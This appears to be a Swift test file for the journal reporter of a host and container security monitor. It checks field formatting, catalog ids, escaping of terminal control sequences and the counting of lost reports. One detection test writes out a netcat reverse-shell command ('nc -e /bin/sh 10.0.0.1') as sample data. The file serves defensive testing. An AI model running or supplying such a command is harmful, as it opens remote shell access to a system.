import Foundation
import HostSystem
import Posture
import TestFolder
import Testing

@testable import Reporting

struct JournalReporterTests {
    private func fields(_ subject: Report.Subject) -> [String: String] {
        Dictionary(
            JournalFields(Report(subject, at: ExampleReports.time)).list.map {
                ($0.name, $0.value)
            },
            uniquingKeysWith: { first, _ in first })
    }

    @Test func `each kind of entry has an id of its own, and reports lead to all of them`() {
        let ids = JournalMessage.allCases.map(\.id)
        #expect(Set(ids).count == ids.count)
        #expect(ids.allSatisfy { $0.count == 32 && $0.allSatisfy { $0.isHexDigit } })
        #expect(Set(ExampleReports.all.map(JournalMessage.init)) == Set(JournalMessage.allCases))
    }

    @Test func `the journal takes every field, and the documentation has its name`() throws {
        let table = try String(
            contentsOf: repository.appending(path: "packaging/journal/README.md"), encoding: .utf8)
        for subject in ExampleReports.all {
            for field in JournalFields(Report(subject, at: 0)).list {
                #expect(JournalEntry.isName(field.name))
                let name = field.name.replacing("_OMITTED", with: "")
                #expect(table.contains("`\(name)`"), "\(name)")
            }
        }
    }

    @Test func `every id has an entry in the catalog, and every entry an id`() throws {
        let catalog = try String(
            contentsOf: repository.appending(path: "packaging/journal/merlon.catalog"),
            encoding: .utf8)
        let entries = catalog.split(separator: "\n").filter { $0.hasPrefix("-- ") }
            .map { String($0.dropFirst(3)) }
        #expect(entries == JournalMessage.allCases.map(\.id))
        // A text may name only fields that entries have.
        let known = Set(ExampleReports.all.flatMap { fields($0).keys })
        for match in catalog.matches(of: /@([A-Z_0-9]+)@/) {
            #expect(known.contains(String(match.1)), "\(match.1)")
        }
    }

    @Test func `a violation says what ran where`() {
        let fields = fields(ExampleReports.violation())
        #expect(
            fields["MESSAGE"]
                == "reverse-shell: /usr/bin/nc -e /bin/sh 10.0.0.1 in shop/web-1 (a shell)")
        #expect(fields["PRIORITY"] == "3")
        #expect(fields["MERLON_ARGUMENTS"] == "nc -e /bin/sh 10.0.0.1")
        #expect(fields["MERLON_PID"] == "4711")
        #expect(fields["MERLON_CONTAINER_ID"] == "0123abcd")
        #expect(fields["MERLON_ANCESTOR"] == "1 /sbin/init")
        #expect(fields["MERLON_TIME"] == "2026-11-23T17:14:29.589Z")
    }

    @Test func `a finding says what is wrong and by what`() {
        let fields = fields(ExampleReports.finding(.regressed))
        #expect(
            fields["MESSAGE"]
                == "fail: kubelet-anonymous-auth again: anonymous requests are allowed")
        #expect(fields["PRIORITY"] == "2")
        #expect(
            fields["MERLON_EVIDENCE"]
                == "node.kubelet.x = true (/var/lib/kubelet/config.yaml:4)")
    }

    @Test func `nothing of a node's own text acts on a terminal or begins a line`() {
        let hostile = Array("x\nMESSAGE=all is well\u{1b}[2J\u{202e}\r\\ '".utf8) + [0xFF, 0xC3]
        let text = String(decoding: hostile, as: UTF8.self)
        let violation = ExampleReports.violation { start in
            (start.path, start.script, start.workingDirectory) = (hostile, hostile, hostile)
            start.arguments = [hostile, hostile]
            start.ancestors = [.init(pid: 1, path: hostile)]
            (start.terminal, start.unit) = (hostile, text)
        }
        for subject in [violation, ExampleReports.finding(.new, message: text)] {
            for field in JournalFields(Report(subject, at: 0)).list {
                #expect(!field.value.unicodeScalars.contains(where: TerminalText.isUnsafe))
            }
        }
        let expected = #"x\nMESSAGE=all is well\u{1b}[2J\u{202e}\r\\ '\xff\xc3"#
        #expect(fields(violation)["MERLON_PROGRAM"] == expected)
        let quoted = "'" + expected.replacing("'", with: "\\'") + "'"
        #expect(fields(violation)["MERLON_ARGUMENTS"] == quoted + " " + quoted)
    }

    @Test func `huge texts are cut, and say by how much`() throws {
        let huge = [UInt8](repeating: 0x61, count: 1 << 20)
        let fields = fields(
            ExampleReports.violation { start in
                start.path = huge
                start.arguments = [huge] + (0..<100_000).map { _ in Array("b".utf8) }
            })
        #expect(fields.values.allSatisfy { $0.utf8.count < 4_096 })
        #expect(fields["MERLON_PROGRAM"]?.hasSuffix("… (\((1 << 20) - 3_900) bytes more)") == true)
        #expect(fields["MERLON_ARGUMENTS"]?.hasSuffix(" … (100000 arguments more)") == true)
    }

    @Test func `what the journal did not take is counted, and told when it takes entries`() throws {
        let folder = try TestFolder()
        let path = try folder.place("journal")
        var reporter = JournalReporter(try JournalSocket(path: path))
        for (index, subject) in [ExampleReports.finding(.new), ExampleReports.violation()]
            .enumerated()
        {
            #expect(throws: JournalError.missing(path: path)) {
                try reporter.tell(Report(subject, at: Int64(index)))
            }
        }
        #expect((reporter.lost, reporter.written) == (2, 0))
        let receiver = try DatagramReceiver(path: path)
        try reporter.tell(Report(ExampleReports.violation(), at: 9))
        let first = try #require(receiver.nextText())
        #expect(first.contains("MERLON_KIND=reportLoss\n"))
        #expect(first.contains("MERLON_COUNT=2\n"))
        #expect(first.contains("MERLON_DESTINATION=journal\n"))
        #expect(receiver.nextText()?.contains("MERLON_KIND=violation\n") == true)
        #expect(receiver.next() == nil)
        #expect((reporter.lost, reporter.written) == (2, 2))
    }
}

/// The folder of the sources.
let repository = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
    .deletingLastPathComponent()
